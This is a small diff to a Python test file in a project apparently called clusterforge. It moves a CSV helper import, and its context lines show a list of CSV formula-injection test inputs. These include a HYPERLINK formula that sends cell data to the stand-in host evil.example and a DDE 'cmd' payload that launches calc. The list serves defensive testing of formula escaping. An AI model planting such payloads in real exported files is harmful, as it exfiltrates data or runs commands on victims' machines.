@@ -11,8 +11,8 @@ from typer.testing import CliRunner
 
 from cf_lab_inventory import LAB, index_of, lab_data
 from clusterforge.cli.main import app
-from clusterforge.csvtext import csv_cell, csv_line, csv_text, plain_cell
 from clusterforge.render import render_environment
+from clusterforge.util.csvtext import csv_cell, csv_line, csv_text, plain_cell
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "=1+2"]
